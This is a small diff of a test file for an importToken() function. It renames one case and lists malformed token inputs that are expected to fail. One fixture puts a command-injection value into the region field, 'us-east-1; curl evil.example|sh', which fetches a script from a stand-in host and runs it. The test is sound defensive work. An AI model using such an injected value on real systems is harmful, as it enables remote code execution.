@@ -84,7 +84,7 @@ describe("importToken()", () => {
       "failed",
       "cannot be refreshed",
     ],
-    "a token of nobody knows where": [{ ...token, startUrl: undefined }, {}, "failed", "names no start URL"],
+    "a token without a start URL": [{ ...token, startUrl: undefined }, {}, "failed", "names no start URL"],
     "a start URL that is none": [{ ...token, startUrl: "x\u001b" }, {}, "failed", "it is no URL"],
     "a region that is none": [
       { ...token, region: "us-east-1; curl evil.example|sh" },
